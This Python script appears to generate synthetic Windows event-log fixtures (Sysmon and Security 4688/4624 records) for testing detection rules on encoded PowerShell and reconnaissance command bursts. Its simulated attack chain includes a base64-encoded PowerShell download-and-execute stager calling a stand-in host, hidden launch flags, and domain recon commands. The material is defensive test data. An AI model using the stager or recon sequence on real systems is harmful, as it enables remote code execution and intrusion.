#!/usr/bin/env python3
"""Writes the sample-events fixtures and scenarios: NXLog im_msvistalog records as om_tcp + to_json() sends them
(one JSON object per line, NXLog's own fields plus the flattened EventData). Deterministic: rerun after editing.
Usage: python3 sample-events/tools/gen_events.py   (from the repository root)"""
import base64, hashlib, json, os
from datetime import datetime, timedelta

ROOT = os.path.join(os.path.dirname(__file__), '..', 'src', 'main', 'resources')
HOST = 'FIN-WS07.corp.example.org'
DOMAIN = 'CORP'
USER = 'jdoe'
USER_SID = 'S-1-5-21-3623811015-3361044348-30300820-1107'
SYSMON_GUID = '{5770385F-C22A-43E0-BF4C-06F5698FFBD9}'
SECURITY_GUID = '{54849625-5478-4994-A5BA-3E3B0328C30D}'
record = {'sysmon': 48210, 'security': 1920410}


def guid(seed):
    h = hashlib.md5(seed.encode()).hexdigest()
    return '{%s-%s-%s-%s-%s}' % ('6f3c1a2b', h[0:4], h[4:8], h[8:12], h[12:24])


def nxlog_head(t, eid, source, guid_, version, task, category, channel, rec, sev='INFO', etype='INFO',
               keywords=-9223372036854775808, exec_pid=2836, thread=3120, account=('SYSTEM', 'NT AUTHORITY', 'S-1-5-18', 'User')):
    return {
        'EventTime': t.strftime('%Y-%m-%d %H:%M:%S'), 'Hostname': HOST, 'Keywords': keywords, 'EventType': etype,
        'SeverityValue': 2, 'Severity': sev, 'EventID': eid, 'SourceName': source, 'ProviderGuid': guid_,
        'Version': version, 'Task': task, 'OpcodeValue': 0, 'RecordNumber': rec, 'ExecutionProcessID': exec_pid,
        'ThreadID': thread, 'Channel': channel, 'Domain': account[1], 'AccountName': account[0],
        'UserID': account[2], 'AccountType': account[3], 'Category': category, 'Opcode': 'Info'}


def tail(rec, t, message):
    rec['Message'] = message
    rec['EventReceivedTime'] = (t + timedelta(seconds=1)).strftime('%Y-%m-%d %H:%M:%S')
    rec['SourceModuleName'] = 'eventlog'
    rec['SourceModuleType'] = 'im_msvistalog'
    return rec


def sysmon1(t, pid, image, cmd, ppid, pimage, pcmd, cwd='C:\\Users\\jdoe\\', desc='', orig=None, host=None):
    record['sysmon'] += 1
    name = image.split('\\')[-1]
    r = nxlog_head(t, 1, 'Microsoft-Windows-Sysmon', SYSMON_GUID, 5, 1, 'Process Create (rule: ProcessCreate)',
                   'Microsoft-Windows-Sysmon/Operational', record['sysmon'])
    h = hashlib.sha256(image.lower().encode()).hexdigest().upper()
    data = {
        'RuleName': '-', 'UtcTime': t.strftime('%Y-%m-%d %H:%M:%S.') + '%03d' % (t.microsecond // 1000),
        'ProcessGuid': guid(f'{pid}{image}{t}'), 'ProcessId': str(pid), 'Image': image, 'FileVersion': '10.0.19041.1 (WinBuild.160101.0800)',
        'Description': desc or name, 'Product': 'Microsoft® Windows® Operating System', 'Company': 'Microsoft Corporation',
        'OriginalFileName': orig or name, 'CommandLine': cmd, 'CurrentDirectory': cwd, 'User': f'{DOMAIN}\\{USER}',
        'LogonGuid': '{6f3c1a2b-9d1e-6737-5a7b-1c0000000000}', 'LogonId': '0x1c7b5a', 'TerminalSessionId': '1',
        'IntegrityLevel': 'Medium', 'Hashes': f'SHA1={h[:40]},MD5={h[:32]},SHA256={h},IMPHASH={h[8:40]}',
        'ParentProcessGuid': guid(f'{ppid}{pimage}'), 'ParentProcessId': str(ppid), 'ParentImage': pimage,
        'ParentCommandLine': pcmd, 'ParentUser': f'{DOMAIN}\\{USER}'}
    r.update(data)
    msg = 'Process Create:\r\n' + '\r\n'.join(f'{k}: {v}' for k, v in data.items())
    if host:
        r['Hostname'] = host
    return tail(r, t, msg)


def sec4688(t, pid, image, cmd, ppid, pimage):
    record['security'] += 1
    r = nxlog_head(t, 4688, 'Microsoft-Windows-Security-Auditing', SECURITY_GUID, 2, 13312, 'Process Creation',
                   'Security', record['security'], etype='AUDIT_SUCCESS', keywords=-9214364837600034816,
                   exec_pid=4, thread=7412, account=(None, None, None, None))
    for k in ('Domain', 'AccountName', 'UserID', 'AccountType'):
        del r[k]
    data = {
        'SubjectUserSid': USER_SID, 'SubjectUserName': USER, 'SubjectDomainName': DOMAIN, 'SubjectLogonId': '0x1c7b5a',
        'NewProcessId': hex(pid), 'NewProcessName': image, 'TokenElevationType': '%%1938', 'ProcessId': hex(ppid),
        'CommandLine': cmd, 'TargetUserSid': 'S-1-0-0', 'TargetUserName': '-', 'TargetDomainName': '-',
        'TargetLogonId': '0x0', 'ParentProcessName': pimage, 'MandatoryLabel': 'S-1-16-8192'}
    r.update(data)
    msg = ('A new process has been created.\r\n\r\nCreator Subject:\r\n\tSecurity ID:\t\t%s\r\n\tAccount Name:\t\t%s\r\n'
           '\tAccount Domain:\t\t%s\r\n\tLogon ID:\t\t0x1C7B5A\r\n\r\nTarget Subject:\r\n\tSecurity ID:\t\tS-1-0-0\r\n'
           '\tAccount Name:\t\t-\r\n\tAccount Domain:\t\t-\r\n\tLogon ID:\t\t0x0\r\n\r\nProcess Information:\r\n'
           '\tNew Process ID:\t\t%s\r\n\tNew Process Name:\t%s\r\n\tToken Elevation Type:\t%%%%1938\r\n'
           '\tMandatory Label:\t\tS-1-16-8192\r\n\tCreator Process ID:\t%s\r\n\tCreator Process Name:\t%s\r\n'
           '\tProcess Command Line:\t%s' % (USER_SID, USER, DOMAIN, hex(pid), image, hex(ppid), pimage, cmd))
    return tail(r, t, msg)


def sysmon3(t, pid, image, dst, port, src='10.20.4.37', sport=50112):
    record['sysmon'] += 1
    r = nxlog_head(t, 3, 'Microsoft-Windows-Sysmon', SYSMON_GUID, 5, 3, 'Network connection detected (rule: NetworkConnect)',
                   'Microsoft-Windows-Sysmon/Operational', record['sysmon'])
    data = {'RuleName': '-', 'UtcTime': t.strftime('%Y-%m-%d %H:%M:%S.%f')[:-3], 'ProcessGuid': guid(f'{pid}{image}'),
            'ProcessId': str(pid), 'Image': image, 'User': f'{DOMAIN}\\{USER}', 'Protocol': 'tcp', 'Initiated': 'true',
            'SourceIsIpv6': 'false', 'SourceIp': src, 'SourceHostname': HOST, 'SourcePort': str(sport), 'SourcePortName': '-',
            'DestinationIsIpv6': 'false', 'DestinationIp': dst, 'DestinationHostname': '-', 'DestinationPort': str(port),
            'DestinationPortName': 'https' if port == 443 else '-'}
    r.update(data)
    return tail(r, t, 'Network connection detected:\r\n' + '\r\n'.join(f'{k}: {v}' for k, v in data.items()))


def sec4624(t, target, ip):
    record['security'] += 1
    r = nxlog_head(t, 4624, 'Microsoft-Windows-Security-Auditing', SECURITY_GUID, 2, 12544, 'Logon', 'Security',
                   record['security'], etype='AUDIT_SUCCESS', keywords=-9214364837600034816, exec_pid=688, thread=7340,
                   account=(None, None, None, None))
    for k in ('Domain', 'AccountName', 'UserID', 'AccountType'):
        del r[k]
    data = {'SubjectUserSid': 'S-1-0-0', 'SubjectUserName': '-', 'SubjectDomainName': '-', 'SubjectLogonId': '0x0',
            'TargetUserSid': 'S-1-5-21-3623811015-3361044348-30300820-1142', 'TargetUserName': target,
            'TargetDomainName': DOMAIN, 'TargetLogonId': '0x2a91c4', 'LogonType': '3', 'LogonProcessName': 'NtLmSsp ',
            'AuthenticationPackageName': 'NTLM', 'WorkstationName': 'FIN-WS11', 'LogonGuid': '{00000000-0000-0000-0000-000000000000}',
            'TransmittedServices': '-', 'LmPackageName': 'NTLM V2', 'KeyLength': '128', 'ProcessId': '0x0',
            'ProcessName': '-', 'IpAddress': ip, 'IpPort': '49822', 'ImpersonationLevel': '%%1833',
            'RestrictedAdminMode': '-', 'TargetOutboundUserName': '-', 'TargetOutboundDomainName': '-',
            'VirtualAccount': '%%1843', 'TargetLinkedLogonId': '0x0', 'ElevatedToken': '%%1842'}
    r.update(data)
    return tail(r, t, 'An account was successfully logged on.\r\n\r\nSubject:\r\n\tSecurity ID:\t\tS-1-0-0\r\n'
                'Logon Information:\r\n\tLogon Type:\t\t3\r\n\r\nNew Logon:\r\n\tAccount Name:\t\t%s\r\n'
                'Network Information:\r\n\tSource Network Address:\t%s' % (target, ip))


def enc(script):
    return base64.b64encode(script.encode('utf-16-le')).decode()


def write(path, records):
    full = os.path.join(ROOT, path)
    os.makedirs(os.path.dirname(full), exist_ok=True)
    with open(full, 'w', newline='\n') as f:
        for r in records:
            f.write(json.dumps(r, ensure_ascii=False, separators=(',', ':')) + '\n')


T0 = datetime(2026, 11, 17, 9, 14, 2, 118000)
S = lambda sec, ms=0: T0 + timedelta(seconds=sec, milliseconds=ms)
SYS32 = 'C:\\Windows\\System32\\'
PS = SYS32 + 'WindowsPowerShell\\v1.0\\powershell.exe'
WORD = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE'
WSCRIPT = SYS32 + 'wscript.exe'
STAGER = enc("$wc=New-Object Net.WebClient;$wc.Headers.Add('User-Agent','Mozilla/5.0');"
             "IEX $wc.DownloadString('https://198.51.100.23/news.php')")
PS_CMD = f'powershell -nop -w hidden -enc {STAGER}'
WORD_CMD = f'"{WORD}" /n "C:\\Users\\jdoe\\Downloads\\Invoice_8841.docm" /o ""'
VBS_CMD = f'"{WSCRIPT}" "C:\\Users\\jdoe\\AppData\\Local\\Temp\\invoice_8841.vbs"'


def recon(sec, pid, exe, cmd, parent=(6120, PS, PS_CMD), both=False, ms=0):
    t = S(sec, ms)
    out = [sysmon1(t, pid, SYS32 + exe, cmd, parent[0], parent[1], parent[2], cwd='C:\\Users\\jdoe\\AppData\\Local\\Temp\\')]
    if both:
        out.append(sec4688(t.replace(microsecond=0), pid, SYS32 + exe, cmd, parent[0], parent[1]))
    return out


scenario = []
scenario.append(sysmon1(S(0), 4412, WORD, WORD_CMD, 3964, 'C:\\Windows\\explorer.exe', 'C:\\Windows\\Explorer.EXE',
                        desc='Microsoft Word', orig='WinWord.exe'))
scenario.append(sysmon3(S(28, 317), 4412, WORD, '203.0.113.45', 443))
scenario.append(sec4624(S(41).replace(microsecond=0), 'svc_backup', '10.20.4.61'))
scenario.append(sysmon1(S(68, 402), 5032, WSCRIPT, VBS_CMD, 4412, WORD, WORD_CMD, desc='Microsoft ® Windows Based Script Host'))
scenario.append(sysmon1(S(69, 20), 6120, PS, PS_CMD, 5032, WSCRIPT, VBS_CMD, desc='Windows PowerShell', orig='PowerShell.EXE'))
scenario.append(sec4688(S(69).replace(microsecond=0), 6120, PS, PS_CMD, 5032, WSCRIPT))
scenario.append(sysmon3(S(72, 544), 6120, PS, '198.51.100.23', 443, sport=50131))
scenario += recon(120, 7004, 'whoami.exe', 'whoami /all', both=True, ms=233)
scenario += recon(127, 6232, 'net.exe', 'net user /domain', ms=610)
scenario += recon(127, 1580, 'net1.exe', 'C:\\Windows\\system32\\net1 user /domain', parent=(6232, SYS32 + 'net.exe', 'net user /domain'), ms=655)
scenario += recon(133, 2216, 'net.exe', 'net group "domain admins" /domain', both=True, ms=71)
scenario += recon(142, 6988, 'ipconfig.exe', 'ipconfig /all', ms=902)
scenario += recon(149, 4184, 'systeminfo.exe', 'systeminfo', both=True, ms=348)
scenario += recon(158, 3312, 'nltest.exe', 'nltest /dclist:corp.example.org', ms=5)
scenario.append(sysmon3(S(185, 12), 6120, PS, '198.51.100.23', 443, sport=50177))
scenario.append(sec4624(S(212).replace(microsecond=0), 'svc_backup', '10.20.4.61'))
write('scenarios/encoded-powershell-recon.ndjson', scenario)

# --- fixtures: rules/windows/process_creation/<rule_stem>/{match,nomatch}/*.json (one record) or *.ndjson (a case of several)
F = 'rules/windows/process_creation/'
E = F + 'execution_encoded_powershell/'
B = enc("Start-Sleep 5;Get-Process | Out-File C:\\ProgramData\\p.txt")
write(E + 'match/sysmon1_nop_hidden_enc.json', [sysmon1(S(0), 6120, PS, PS_CMD, 5032, WSCRIPT, VBS_CMD, orig='PowerShell.EXE')])
write(E + 'match/security4688_encodedcommand.json',
      [sec4688(S(0).replace(microsecond=0), 1044, PS, f'"{PS}" -NoProfile -NonInteractive -EncodedCommand {B}', 912, SYS32 + 'cmd.exe')])
write(E + 'match/sysmon1_pwsh_ec_quoted.json',
      [sysmon1(S(0), 2288, 'C:\\Program Files\\PowerShell\\7\\pwsh.exe', f'pwsh.exe -ec "{B}"', 912, SYS32 + 'cmd.exe', 'cmd.exe', orig='pwsh.dll')])
write(E + 'match/sysmon1_renamed_e_abbrev.json',
      [sysmon1(S(0), 3380, 'C:\\Users\\Public\\svchost32.exe', f'C:\\Users\\Public\\svchost32.exe -noP -sta -w 1 -e {B}', 912, SYS32 + 'cmd.exe', 'cmd.exe', orig='PowerShell.EXE')])
write(E + 'nomatch/sysmon1_file_bypass.json',
      [sysmon1(S(0), 5120, PS, f'"{PS}" -ExecutionPolicy Bypass -File C:\\Scripts\\Inventory.ps1', 912, SYS32 + 'cmd.exe', 'cmd.exe', orig='PowerShell.EXE')])
write(E + 'nomatch/sysmon1_encoding_parameter.json',
      [sysmon1(S(0), 5122, PS, f'powershell.exe -Command "Get-Content C:\\Logs\\app.log -Encoding Unicode | Select-Object -Last 50"', 912, SYS32 + 'cmd.exe', 'cmd.exe', orig='PowerShell.EXE')])
write(E + 'nomatch/security4688_certutil_encode.json',
      [sec4688(S(0).replace(microsecond=0), 5124, SYS32 + 'certutil.exe', f'certutil -encode C:\\Temp\\report.bin C:\\Temp\\report.b64', 912, SYS32 + 'cmd.exe')])

R = F + 'discovery_recon_command_burst/'
burst = []
for i, (exe, cmd) in enumerate([('whoami.exe', 'whoami /all'), ('net.exe', 'net user /domain'),
                                ('net.exe', 'net group "domain admins" /domain'), ('ipconfig.exe', 'ipconfig /all'),
                                ('systeminfo.exe', 'systeminfo'), ('nltest.exe', 'nltest /dclist:corp.example.org')]):
    burst += recon(i * 15, 7100 + i * 4, exe, cmd, parent=(912, SYS32 + 'cmd.exe', 'cmd.exe'), both=(i % 2 == 0))
write(R + 'match/six_commands_in_75s.ndjson', burst)
spread = []
for i, (exe, cmd) in enumerate([('whoami.exe', 'whoami'), ('ipconfig.exe', 'ipconfig /all'), ('systeminfo.exe', 'systeminfo'),
                                ('tasklist.exe', 'tasklist /v'), ('netstat.exe', 'netstat -ano')]):
    spread += recon(i * 45, 7300 + i * 4, exe, cmd, parent=(912, SYS32 + 'cmd.exe', 'cmd.exe'))
write(R + 'nomatch/five_commands_over_3min.ndjson', spread)
same = []
for i in range(6):
    same += recon(i * 10, 7500 + i * 4, 'whoami.exe', 'whoami', parent=(912, SYS32 + 'cmd.exe', 'cmd.exe'), both=True)
write(R + 'nomatch/same_command_repeated.ndjson', same)
hosts = []
for i, (exe, cmd) in enumerate([('whoami.exe', 'whoami'), ('ipconfig.exe', 'ipconfig'), ('systeminfo.exe', 'systeminfo'),
                                ('tasklist.exe', 'tasklist'), ('hostname.exe', 'hostname'), ('quser.exe', 'quser')]):
    r = recon(i * 5, 7700 + i * 4, exe, cmd, parent=(912, SYS32 + 'cmd.exe', 'cmd.exe'))[0]
    r['Hostname'] = HOST if i % 2 == 0 else 'FIN-WS11.corp.example.org'
    hosts.append(r)
write(R + 'nomatch/three_each_on_two_hosts.ndjson', hosts)
